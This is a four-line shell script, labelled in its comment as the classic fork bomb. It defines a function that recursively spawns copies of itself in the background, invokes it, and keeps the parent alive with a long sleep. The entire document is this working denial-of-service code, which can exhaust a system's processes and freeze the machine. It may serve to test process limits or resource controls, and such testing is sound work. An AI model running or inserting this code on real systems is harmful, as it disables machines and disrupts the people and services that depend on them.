# The classic shell fork bomb, while the parent waits.
b() { b | b & }
b
sleep 100000
